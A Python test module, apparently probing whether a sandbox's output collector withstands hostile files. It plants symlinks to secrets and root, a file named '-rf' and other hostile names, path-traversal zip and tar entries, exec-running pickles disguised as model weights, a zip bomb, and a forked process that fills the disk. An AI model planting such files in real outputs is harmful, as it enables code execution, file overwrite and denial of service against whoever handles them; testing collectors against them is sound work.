"""Attacks left behind for whoever collects the output."""

import io
import pickle
import socket
import tarfile
import zipfile

from attack_kit import *


def links_and_special_files():
    write(os.path.join(OUT, "file"))
    os.symlink(TOLD["secret"], os.path.join(OUT, "symlink"))
    os.symlink("/", os.path.join(OUT, "folder"))
    os.link(os.path.join(OUT, "file"), os.path.join(OUT, "hardlink"))
    os.mkfifo(os.path.join(OUT, "fifo"))
    socket.socket(socket.AF_UNIX).bind(os.path.join(OUT, "socket"))
    os.mkdir(os.path.join(OUT, "closed"), 0)
    return {"device": attempt(lambda: os.mknod(os.path.join(OUT, "device"), 0o60600, 0x800))}


def odd_names():
    names = [
        b"new\nline",
        b"\xff\xfe",
        "\u202eevil".encode(),
        b"-rf",
        b"\x1b[31m",
        b"x" * 255,
        b" ",
        b"...",
    ]
    return {
        repr(name): attempt(lambda name=name: write(os.path.join(os.fsencode(OUT), name)))
        for name in names
    }


def archives_that_climb():
    """Left as they are: nobody unpacks them."""
    with zipfile.ZipFile(os.path.join(OUT, "model.zip"), "w") as archive:
        archive.writestr("../../../../../../" + TOLD["marker"].lstrip("/"), "climbed")
        archive.writestr(TOLD["marker"], "climbed")
    with tarfile.open(os.path.join(OUT, "model.tar"), "w") as archive:
        item = tarfile.TarInfo("../../../../../../" + TOLD["marker"].lstrip("/"))
        item.size = 7
        archive.addfile(item, io.BytesIO(b"climbed"))
    return "left"


class Bomb:
    def __reduce__(self):
        return (exec, ("open(%r, 'w').write('ran')" % TOLD["marker"],))


def pickles_that_run():
    for name in ("model.pkl", "model.joblib", "model.pt", "weights.npy"):
        with open(os.path.join(OUT, name), "wb") as file:
            pickle.dump(Bomb(), file)
    return "left"


def zip_that_swells():
    with zipfile.ZipFile(os.path.join(OUT, "bomb.zip"), "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", b"\0" * (32 * 1024 * 1024))
    return os.path.getsize(os.path.join(OUT, "bomb.zip"))


def growing_file():
    """Grows on in a process of its own until the sandbox is dead."""
    if os.fork() == 0:
        os.setsid()
        while True:
            leave("model.onnx", "x" * 4096)
            time.sleep(0.002)
    while not os.path.exists(os.path.join(OUT, "model.onnx")):
        time.sleep(0.01)
